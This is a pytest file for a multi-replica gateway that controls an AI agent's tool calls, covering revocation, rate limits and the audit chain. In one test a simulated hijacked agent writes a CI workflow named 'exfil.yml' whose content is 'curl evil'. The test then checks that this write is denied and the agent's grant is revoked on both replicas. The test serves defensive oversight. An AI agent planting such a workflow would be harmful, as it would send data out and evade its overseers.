"""Scaled out: two gateway replicas on one PostgreSQL and one Redis.

A grant made on one replica is honoured by the other, a revocation (by hand or by drift) on one
is enforced by the other at once, rate limits are global, and both append to one audit chain.
"""

from __future__ import annotations

import secrets

import psycopg
import pytest

from adapters.compose import build_runtime
from gateway.clock import FakeClock
from gateway.config import Settings
from gateway.grants import GrantRequest
from gateway.model import CallOutcome, Effect, Principal, Role, ToolCall
from policies.loader import default_pack_paths, load_policy_texts
from tests.support.services import PG_DSN, REDIS_URL, service_missing

AGENT = Principal("agent:coder", Role.AGENT, "coder")
REVIEWER = Principal("reviewer:rita", Role.REVIEWER, "rita")
READ_DOCS = [{"tool": "fs.read_file", "args": {"path": {"path_under": "/workspace/docs"}}}]


def _policy_with_limit(limit: str):
    docs = []
    for path in default_pack_paths():
        text = path.read_text(encoding="utf-8")
        if path.name == "default.yaml":
            text = text.replace('limit: "50/second"', f'limit: "{limit}"')
        docs.append((path.name, text))
    return load_policy_texts(docs)


@pytest.fixture
async def replicas(tmp_path):
    try:
        with psycopg.connect(PG_DSN, connect_timeout=3) as c:
            c.execute("SELECT 1")
    except Exception:
        service_missing("postgres")
    import redis

    try:
        redis.Redis.from_url(REDIS_URL, socket_connect_timeout=3).ping()
    except Exception:
        service_missing("redis")
    schema = f"jg_rep_{secrets.token_hex(4)}"
    clock = FakeClock()
    policy = _policy_with_limit("5/minute")
    common = dict(store="postgres", postgres_dsn=PG_DSN, postgres_schema=schema,
                  redis_url=REDIS_URL, data_dir=tmp_path / "shared")
    a = await build_runtime(Settings(**common), clock=clock, policy=policy)
    b = await build_runtime(Settings(**common), clock=clock, policy=policy)
    try:
        yield a.gateway, b.gateway, clock
    finally:
        await a.close()
        await b.close()
        with psycopg.connect(PG_DSN, autocommit=True) as c:
            c.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
        r = redis.Redis.from_url(REDIS_URL)
        for key in r.scan_iter("*"):
            if b"coder" in key or b"agent:coder" in key:
                r.delete(key)


def call(grant_id: str, path: str, tool: str = "fs.read_file", **extra) -> ToolCall:
    return ToolCall(AGENT, tool, {"path": path, **extra}, grant_id=grant_id)


async def test_a_revocation_on_one_replica_is_enforced_by_the_other(replicas):
    a, b, clock = replicas
    g = await a.request_grant(AGENT, GrantRequest("read the docs", READ_DOCS, 600))
    assert (await b.authorize(call(g.grant_id, "/workspace/docs/a.md"))).decision.effect is Effect.ALLOW
    await a.revoke_grant(REVIEWER, g.grant_id, "done")
    after = await b.authorize(call(g.grant_id, "/workspace/docs/b.md"))
    assert after.decision.code == "grant_revoked"


async def test_rate_limits_are_global_across_replicas(replicas):
    a, b, clock = replicas
    g = await a.request_grant(AGENT, GrantRequest("read the docs", READ_DOCS, 600))
    effects = []
    for i in range(8):
        gw = a if i % 2 == 0 else b
        effects.append((await gw.authorize(call(g.grant_id, f"/workspace/docs/{i}.md"))).decision.code)
    assert effects[:5] == ["allowed"] * 5
    assert set(effects[5:]) == {"rate_limited"}


async def test_drift_revocation_on_one_replica_stops_the_agent_on_the_other(replicas):
    a, b, clock = replicas
    g = await a.request_grant(AGENT, GrantRequest(
        "Fix the typo in /workspace/docs/api.md",
        [{"tool": "fs.read_file", "args": {"path": {"path_under": "/workspace"}}},
         {"tool": "fs.write_file", "args": {"path": {"path_under": "/workspace"}}}], 600))
    if g.status.value == "pending":
        g = await a.approve_grant(REVIEWER, g.grant_id)
    read = await a.authorize(call(g.grant_id, "/workspace/docs/api.md"))
    await a.complete(AGENT, read.decision.decision_id, CallOutcome(
        read.decision.decision_id, ok=True, output={"content": "# API\nPOST /v1/authorize"}))
    # a write to a path that neither the objective nor any data the agent saw mentions
    hijack = await a.authorize(call(g.grant_id, "/workspace/.github/workflows/exfil.yml",
                                    tool="fs.write_file", content="curl evil"))
    assert hijack.decision.effect is Effect.DENY and hijack.decision.revoke_grant
    other = await b.authorize(call(g.grant_id, "/workspace/docs/api.md"))
    assert other.decision.code == "grant_revoked_drift"


async def test_both_replicas_append_to_one_verifiable_chain(replicas):
    a, b, clock = replicas
    g = await a.request_grant(AGENT, GrantRequest("read the docs", READ_DOCS, 600))
    for i in range(4):
        gw = a if i % 2 == 0 else b
        await gw.authorize(call(g.grant_id, f"/workspace/docs/{i}.md"))
    report = await a.audit.verify()
    assert report.ok and report.count >= 6
    decided = [r for r in await b.audit.read(grant_id=g.grant_id) if r.type == "call.decided"]
    assert len(decided) == 4
